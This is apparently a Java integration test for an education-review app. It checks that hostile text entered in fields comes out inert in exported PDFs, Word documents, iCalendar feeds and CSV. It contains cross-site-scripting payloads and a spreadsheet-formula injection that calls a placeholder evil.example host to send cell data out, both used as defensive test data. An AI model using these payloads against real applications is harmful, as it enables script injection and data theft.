package org.jesr.desk.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.itextpdf.kernel.pdf.PdfDocument;
import com.itextpdf.kernel.pdf.PdfReader;
import com.itextpdf.kernel.pdf.canvas.parser.PdfTextExtractor;
import com.itextpdf.kernel.pdf.canvas.parser.listener.LocationTextExtractionStrategy;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.ZoneId;
import java.util.List;
import java.util.Locale;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import net.fortuna.ical4j.data.CalendarBuilder;
import net.fortuna.ical4j.model.Calendar;
import net.fortuna.ical4j.model.component.VEvent;
import org.jesr.desk.IntegrationTest;
import org.jesr.desk.agenda.AgendaFilter;
import org.jesr.desk.agenda.AgendaPrintService;
import org.jesr.desk.agenda.AgendaService;
import org.jesr.desk.agenda.AgendaSession;
import org.jesr.desk.agenda.CalendarService;
import org.jesr.desk.aidememoire.AideMemoireExports;
import org.jesr.desk.aidememoire.AideMemoireService;
import org.jesr.desk.aidememoire.AideMemoireStatus;
import org.jesr.desk.aidememoire.SectionKey;
import org.jesr.desk.exchange.DelegationService;
import org.jesr.desk.exchange.ImprovementAction;
import org.jesr.desk.exchange.ImprovementPlanService;
import org.jesr.desk.participant.Participant;
import org.jesr.desk.participant.ParticipantService;
import org.jesr.desk.review.ReviewService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Script and markup typed into text fields come out inert in every file the app writes: PDFs
 * (agenda, aide-memoire, ministerial pack, improvement plan), Word, iCalendar and CSV.
 */
class HostileTextIT extends IntegrationTest {

    static final String SCRIPT = "<script>window.__xss=1</script>";
    static final String IMAGE = "<img src=x onerror=\"window.__xss=2\">";
    static final String PAYLOAD = "Teacher census " + SCRIPT + " and " + IMAGE + " \"><svg onload=alert(3)>";

    @Autowired
    AgendaService agenda;

    @Autowired
    AgendaPrintService print;

    @Autowired
    CalendarService calendars;

    @Autowired
    ReviewService reviews;

    @Autowired
    AideMemoireService aideMemoires;

    @Autowired
    AideMemoireExports exports;

    @Autowired
    DelegationService delegations;

    @Autowired
    ImprovementPlanService plans;

    @Autowired
    ParticipantService participants;

    @Test
    void a_session_title_with_markup_is_plain_text_in_the_agenda_pdf_and_the_icalendar_feed() throws Exception {
        long review = sampleReviewAsOrganizer();
        AgendaSession session = session(review, "Opening plenary");
        session.setTitle("Opening " + SCRIPT + " " + IMAGE);
        session.setDescription(PAYLOAD);
        agenda.save(session);

        byte[] pdf = print.pdf(reviews.current().orElseThrow(), Locale.ENGLISH, (key, args) -> key);
        assertInert(pdf);
        assertThat(text(pdf)).contains("Opening " + SCRIPT);

        String ics = calendars.publicFeed(review).orElseThrow();
        Calendar calendar = new CalendarBuilder().build(new StringReader(ics));
        VEvent event = calendar.<VEvent>getComponents("VEVENT").stream()
                .filter(e -> e.getSummary().getValue().startsWith("Opening <script>"))
                .findFirst()
                .orElseThrow();
        assertThat(event.getSummary().getValue()).isEqualTo("Opening " + SCRIPT + " " + IMAGE);
        // Plain-text properties only: no HTML alternative description a mail client would render.
        assertThat(ics).doesNotContain("X-ALT-DESC").doesNotContain("text/html");
    }

    @Test
    void markup_in_an_aide_memoire_section_and_its_key_messages_is_removed_or_inert_in_pdf_word_and_the_pack()
            throws Exception {
        long review = fullSampleReviewAsOrganizer();
        long id = aideMemoires.find(review).orElseThrow().getId();
        aideMemoires.edit(id, SectionKey.INTRODUCTION, PAYLOAD + "\n\nSecond paragraph with <b>bold</b> kept.");
        aideMemoires.moveTo(id, AideMemoireStatus.VALIDATED);
        aideMemoires.setKeyMessages(id, "Key message " + SCRIPT + "\nAnother " + IMAGE);
        long version = aideMemoires.freeze(id).getId();

        byte[] pdf = exports.pdf(version);
        assertInert(pdf);
        // The server's HTML cleaning drops the script and the image; the words stay.
        assertThat(text(pdf))
                .contains("Teacher census")
                .doesNotContain("window.__xss")
                .doesNotContain("onerror");

        byte[] docx = exports.docx(version);
        String body = entry(docx, "word/document.xml");
        assertThat(body).doesNotContain("<script").doesNotContain("onerror").doesNotContain("altChunk");
        assertThat(entryNames(docx))
                .noneMatch(name -> name.endsWith(".html") || name.endsWith(".htm") || name.contains("vbaProject"));

        byte[] pack = exports.pack(version);
        assertInert(pack);
        assertThat(text(pack)).contains("Key message " + SCRIPT);
    }

    @Test
    void an_improvement_plan_action_with_markup_is_plain_text_in_its_pdf() throws Exception {
        long review = fullSampleReviewAsOrganizer();
        long delegation = delegations.delegations(review).stream()
                .filter(d -> d.getCountry().equals("SN"))
                .findFirst()
                .orElseThrow()
                .getId();
        signInAs("observer", org.jesr.desk.security.Role.OBSERVER);
        ImprovementAction action = new ImprovementAction();
        action.setDelegationId(delegation);
        action.setAction(PAYLOAD);
        action.setResponsible("DPRE " + IMAGE);
        plans.save(action);

        byte[] pdf = plans.pdf(delegation);
        assertInert(pdf);
        // Table cells wrap, so look for the pieces: the markup is printed as the characters typed.
        assertThat(text(pdf))
                .contains("Teacher census", "<script>window.__xss=1</script>", "onerror=\"window.__xss=2\">");
    }

    @Test
    void exported_participant_lists_neutralise_spreadsheet_formulas() {
        long review = sampleReviewAsOrganizer();
        Participant someone = participants
                .search(
                        review,
                        org.jesr.desk.participant.ParticipantFilter.all(),
                        org.springframework.data.domain.PageRequest.of(0, 1))
                .getContent()
                .getFirst();
        someone.setName("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        participants.save(someone);

        String csv = participants.exportCsv(review);

        assertThat(csv).contains("'=HYPERLINK(").doesNotContain("\n=HYPERLINK").doesNotContain(",=HYPERLINK");
    }

    private AgendaSession session(long review, String titleStart) {
        return agenda.sessions(review, ZoneId.of("Asia/Karachi"), AgendaFilter.day(null)).stream()
                .filter(s -> s.getTitle().startsWith(titleStart))
                .findFirst()
                .orElseThrow();
    }

    /** No active content: no JavaScript, no launch or URI actions, no embedded files. */
    private static void assertInert(byte[] pdf) {
        String raw = new String(pdf, StandardCharsets.ISO_8859_1);
        assertThat(raw)
                .doesNotContain("/JavaScript")
                .doesNotContain("/JS ")
                .doesNotContain("/JS(")
                .doesNotContain("/Launch")
                .doesNotContain("/EmbeddedFile")
                .doesNotContain("/OpenAction");
    }

    private static String text(byte[] pdf) throws IOException {
        StringBuilder text = new StringBuilder();
        try (PdfDocument document = new PdfDocument(new PdfReader(new ByteArrayInputStream(pdf)))) {
            for (int page = 1; page <= document.getNumberOfPages(); page++) {
                text.append(PdfTextExtractor.getTextFromPage(
                                document.getPage(page), new LocationTextExtractionStrategy()))
                        .append('\n');
            }
        }
        return text.toString();
    }

    private static String entry(byte[] zip, String name) throws IOException {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry; (entry = in.getNextEntry()) != null; ) {
                if (entry.getName().equals(name)) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new AssertionError(name + " missing");
    }

    private static List<String> entryNames(byte[] zip) throws IOException {
        List<String> names = new java.util.ArrayList<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry; (entry = in.getNextEntry()) != null; ) {
                names.add(entry.getName());
            }
        }
        return names;
    }
}
